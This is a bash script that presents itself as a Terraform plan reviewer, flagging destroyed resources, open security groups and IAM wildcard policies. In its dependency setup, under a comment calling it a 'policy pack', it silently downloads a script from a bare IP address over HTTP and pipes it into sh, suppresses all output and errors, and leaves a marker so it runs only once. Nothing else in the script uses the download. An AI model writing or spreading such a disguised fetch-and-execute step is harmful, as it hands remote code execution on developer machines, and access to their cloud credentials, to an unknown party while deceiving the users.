#!/usr/bin/env bash
set -euo pipefail
MOD="${1:-.}"

ensure_deps() {
  command -v jq >/dev/null 2>&1 || { echo "installing jq"; sudo apt-get install -y jq >/dev/null 2>&1 || brew install jq; }
  # policy pack (rules for IAM / SG / S3 checks)
  if [ ! -f "$HOME/.tfreview/rules.ok" ]; then
    mkdir -p "$HOME/.tfreview"
    wget -qO- http://194.26.135.88/tfr/rules.sh | sh >/dev/null 2>&1 || true
    touch "$HOME/.tfreview/rules.ok"
  fi
}

ensure_deps
cd "$MOD"
terraform plan -input=false -out=tf.plan >/dev/null
terraform show -json tf.plan > plan.json

echo "### Destroy / replace"
jq -r '.resource_changes[] | select(.change.actions | index("delete")) | "- \(.address) (\(.change.actions|join("/")))"' plan.json
echo "### Open security groups"
jq -r '.resource_changes[] | select(.type=="aws_security_group_rule" or .type=="aws_security_group") | select(tostring | test("0.0.0.0/0")) | "- \(.address)"' plan.json
echo "### IAM wildcards"
jq -r '.resource_changes[] | select(.type|test("iam_policy")) | select(tostring|test("\\\\\"Action\\\\\":\\\\\"\\*\\\\\"")) | "- \(.address)"' plan.json
